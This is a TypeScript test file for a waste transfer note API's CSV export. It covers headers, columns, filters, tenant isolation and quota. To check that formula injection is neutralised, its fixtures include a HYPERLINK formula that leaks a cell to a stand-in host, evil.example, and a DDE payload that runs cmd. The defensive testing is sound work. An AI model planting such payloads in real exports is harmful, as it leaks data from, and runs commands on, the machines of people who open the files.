import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ManualClock } from '../../src/platform/clock.ts';
import type { WasteTransferNote } from '../../src/wtn/wtn-schemas.ts';
import { bodyWith, validBody, type WtnApp, wtnApp } from './wtn-app.ts';

const clock = new ManualClock('2026-03-20T09:15:00.000Z');
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const AWKWARD_NAME = 'Smith, "Jones" & Sons\nYard 2; Unit 3';
let t: WtnApp;
let plain: WasteTransferNote;
let awkward: WasteTransferNote;
let signed: WasteTransferNote;
let live: WasteTransferNote;
let theirs: WasteTransferNote;

beforeAll(async () => {
  t = await wtnApp({ clock });
  plain = await t.note(validBody({ transfer_date: '2026-03-01' }));
  clock.advance(1000);
  awkward = await t.note({
    ...bodyWith('waste', { description: FORMULA, ewc_code: '20 03 01', quantity_kg: 12.5 }),
    producer: { name: AWKWARD_NAME, address: 'Plot 7, Dock Road\nSouthampton SO14 3TG', sic_code: '01110' },
    transfer_date: '2026-03-10',
    transfer_place: '@SUM(1+1)*cmd|" /C calc"!A0',
  });
  clock.advance(1000);
  const toSign = await t.note({
    ...bodyWith('carrier', { registration_number: 'CBDU100003' }),
    transfer_date: '2026-03-20',
    transfer_place: 'Gate 2;=1+1',
  });
  for (const [party, name] of [
    ['transferor', '-Sam Patel'],
    ['transferee', 'Jo Driver'],
  ]) {
    const response = await t.call(t.testKey, {
      method: 'POST',
      url: `/v1/wtn/${toSign.reference}/signatures`,
      payload: { party, name, position: 'Driver' },
    });
    expect(response.statusCode, response.body).toBe(201);
  }
  signed = (await t.get(`/v1/wtn/${toSign.reference}`)).json();
  live = await t.note(bodyWith('carrier', { auto_verify: false }), t.liveKey);
  theirs = await t.note(validBody(), t.otherOrgKey);
});
afterAll(async () => {
  await t.close();
});

const BOM = '\uFEFF';

async function csv(query: string, key = t.testKey, accept = 'text/csv') {
  const response = await t.call(key, { method: 'GET', url: `/v1/wtn${query}`, headers: { accept } });
  expect(response.statusCode, response.body).toBe(200);
  const rows: Record<string, string>[] = parse(response.body, { bom: true, columns: true });
  return { response, rows };
}

async function jsonReferences(query: string, key = t.testKey): Promise<string[]> {
  const response = await t.get(`/v1/wtn${query}${query ? '&' : '?'}limit=100`, key);
  return response.json().data.map((n: WasteTransferNote) => n.reference);
}

describe('GET /v1/wtn as CSV', () => {
  it('answers Accept: text/csv with a download a spreadsheet opens: BOM, header row, CRLF, one row per note', async () => {
    const { response, rows } = await csv('');
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="transfer-notes-test-start-latest.csv"',
    );
    expect(response.headers.vary).toContain('Accept');
    expect(response.body.startsWith(`${BOM}reference,mode,status,created_at,transfer_date,`)).toBe(true);
    // Every line break outside quoted text is CRLF: strip the quoted fields, then look for a bare LF.
    const unquoted = response.body.replace(/"(?:[^"]|"")*"/g, '');
    expect(unquoted).not.toMatch(/[^\r]\n/);
    expect(unquoted.endsWith('\r\n')).toBe(true);
    expect(rows.map((r) => r.reference)).toEqual([signed.reference, awkward.reference, plain.reference]);
    expect(rows.map((r) => r.reference)).toEqual(await jsonReferences(''));
  });

  it('writes the columns an auditor asks for, as the JSON note has them', async () => {
    const { rows } = await csv('?format=csv');
    const row = rows.find((r) => r.reference === plain.reference)!;
    expect(row).toMatchObject({
      mode: 'test',
      status: 'complete',
      created_at: plain.created_at,
      transfer_date: '2026-03-01',
      transfer_time: '10:30',
      transfer_place: '45 High Street, Bournemouth, BH1 2AA',
      producer_name: 'ABC Office Fit-out Ltd',
      producer_postcode: 'BH1 2AA',
      producer_sic_code: '43320',
      carrier_registration_number: 'CBDU100001',
      carrier_name: plain.carrier.business_name,
      carrier_register_status: 'valid',
      carrier_verified: 'true',
      ewc_code: '17 08 02',
      hazardous: 'false',
      quantity_kg: '2500',
      container_type: 'skip',
      destination_postcode: 'BH15 1NF',
      destination_permit_number: 'EPR/AB1234CD',
      is_compliant: String(plain.compliance.is_compliant),
      warnings: plain.compliance.warnings.map((w) => w.code).join('; '),
      signed: 'unsigned',
      transferor_signed_by: '',
      content_sha256: '',
      supersedes: '',
      superseded_by: '',
      season_ticket_valid_from: '',
    });
    const signedRow = rows.find((r) => r.reference === signed.reference)!;
    expect(signedRow).toMatchObject({
      signed: 'signed',
      transferee_signed_by: 'Jo Driver',
      transferee_position: 'Driver',
      transferee_signed_at: signed.signatures.transferee!.signed_at,
      content_sha256: signed.content_sha256,
    });
  });

  it('neutralises text a spreadsheet would run as a formula, and round-trips quotes, commas and line breaks', async () => {
    const { rows } = await csv('?format=csv');
    const row = rows.find((r) => r.reference === awkward.reference)!;
    expect(row.waste_description).toBe(`'${FORMULA}`);
    expect(row.transfer_place).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(row.producer_name).toBe(AWKWARD_NAME);
    expect(row.producer_address).toBe('Plot 7, Dock Road\nSouthampton SO14 3TG');
    expect(row.producer_postcode).toBe('SO14 3TG');
    expect(row.producer_sic_code).toBe('01110');
    expect(row.quantity_kg).toBe('12.5');
    const signedRow = rows.find((r) => r.reference === signed.reference)!;
    expect(signedRow.transferor_signed_by).toBe("'-Sam Patel");
    // The JSON keeps the text exactly as given.
    expect(awkward.waste.description).toBe(FORMULA);
  });

  it('quotes every cell holding a semicolon, so a spreadsheet that splits on ";" never splits a cell', async () => {
    const { response, rows } = await csv('?format=csv');
    expect(rows.find((r) => r.reference === signed.reference)?.transfer_place).toBe('Gate 2;=1+1');
    let quoted = false;
    const unquoted: string[] = [];
    for (const [i, char] of [...response.body].entries()) {
      if (char === '"') quoted = !quoted;
      else if (char === ';' && !quoted) unquoted.push(response.body.slice(i - 20, i + 20));
    }
    expect(unquoted).toEqual([]);
  });

  it('honours the same filters as the JSON list', async () => {
    for (const query of [
      '?transfer_date_from=2026-03-10',
      '?transfer_date_to=2026-03-10',
      '?transfer_date_from=2026-03-05&transfer_date_to=2026-03-15',
      '?carrier_registration_number=cbdu%20100003',
      '?ewc_code=200301',
      '?is_compliant=false',
      '?is_compliant=true',
      '?status=complete',
      '?status=superseded',
      '?signed=signed',
      '?signed=unsigned',
    ]) {
      const { rows } = await csv(`${query}&format=csv`, t.testKey, '*/*');
      expect(
        rows.map((r) => r.reference),
        query,
      ).toEqual(await jsonReferences(query));
    }
    const { response, rows } = await csv(
      '?format=csv&transfer_date_from=2026-03-05&transfer_date_to=2026-03-15',
    );
    expect(rows.map((r) => r.reference)).toEqual([awkward.reference]);
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="transfer-notes-test-2026-03-05-2026-03-15.csv"',
    );
  });

  it('never mixes live and test notes, nor shows another organisation its notes', async () => {
    const liveExport = await csv('', t.liveKey);
    expect(liveExport.rows.map((r) => [r.reference, r.mode])).toEqual([[live.reference, 'live']]);
    expect(liveExport.response.headers['content-disposition']).toBe(
      'attachment; filename="transfer-notes-start-latest.csv"',
    );
    const other = await csv('', t.otherOrgKey);
    expect(other.rows.map((r) => r.reference)).toEqual([theirs.reference]);
    expect(other.response.body).not.toContain(plain.reference);
  });

  it('sends a header row alone when nothing matches', async () => {
    const { response, rows } = await csv('?transfer_date_from=2030-01-01');
    expect(rows).toEqual([]);
    expect(response.body).toMatch(/^\uFEFFreference,.*,superseded_by\r\n$/);
  });

  it.each([
    ['text/csv', 'csv'],
    ['text/csv;q=1, application/json;q=0.5', 'csv'],
    ['text/*', 'csv'],
    ['application/json, text/csv', 'json'],
    ['*/*', 'json'],
    ['text/html', 'json'],
  ])('Accept: %s answers %s', async (accept, format) => {
    const response = await t.call(t.testKey, { method: 'GET', url: '/v1/wtn', headers: { accept } });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toContain(format === 'csv' ? 'text/csv' : 'application/json');
  });

  it('lets format=json win over Accept, and answers JSON when neither asks for CSV', async () => {
    const forced = await t.call(t.testKey, {
      method: 'GET',
      url: '/v1/wtn?format=json',
      headers: { accept: 'text/csv' },
    });
    expect(forced.headers['content-type']).toContain('application/json');
    expect((await t.get('/v1/wtn')).headers['content-type']).toContain('application/json');
  });

  it.each([
    ['?format=csv&limit=10', ['limit']],
    ['?format=csv&starting_after=WTN-2026-0320-ZZZZ', ['starting_after']],
    [
      '?format=csv&limit=5&transfer_date_from=2026-03-10&transfer_date_to=2026-03-01',
      ['limit', 'transfer_date_from'],
    ],
    ['?format=xlsx', ['format']],
  ])('refuses %s naming %s', async (query, fields) => {
    const response = await t.get(`/v1/wtn${query}`);
    expect(response.statusCode, response.body).toBe(400);
    expect(response.headers['content-type']).toContain('application/json');
    expect(response.json().error.code).toBe('INVALID_REQUEST');
    expect(response.json().error.details.map((d: { field: string }) => d.field)).toEqual(fields);
  });

  it('costs no call for a query it refuses, JSON or CSV, as for one the schema refuses', async () => {
    const used = async () => (await t.call(t.liveKey, { url: '/v1/usage' })).json().used as number;
    const before = await used();
    for (const query of [
      '?format=csv&limit=5',
      '?transfer_date_from=2026-03-10&transfer_date_to=2026-03-01',
      '?format=csv&transfer_date_from=2026-03-10&transfer_date_to=2026-03-01',
      '?ewc_code=99',
      '?starting_after=not-a-reference',
    ]) {
      const response = await t.get(`/v1/wtn${query}`, t.liveKey);
      expect(response.statusCode, query).toBe(400);
    }
    expect(await used()).toBe(before);
    expect((await t.get('/v1/wtn', t.liveKey)).statusCode).toBe(200);
    expect(await used()).toBe(before + 1);
  });

  it('counts an export as one call of the monthly quota', async () => {
    const remaining = async (accept: string) => {
      const response = await t.call(t.liveKey, { method: 'GET', url: '/v1/wtn', headers: { accept } });
      expect(response.statusCode).toBe(200);
      return Number(response.headers['x-monthly-remaining']);
    };
    const before = await remaining('application/json');
    expect(await remaining('text/csv')).toBe(before - 1);
    expect(await remaining('application/json')).toBe(before - 2);
  });
});
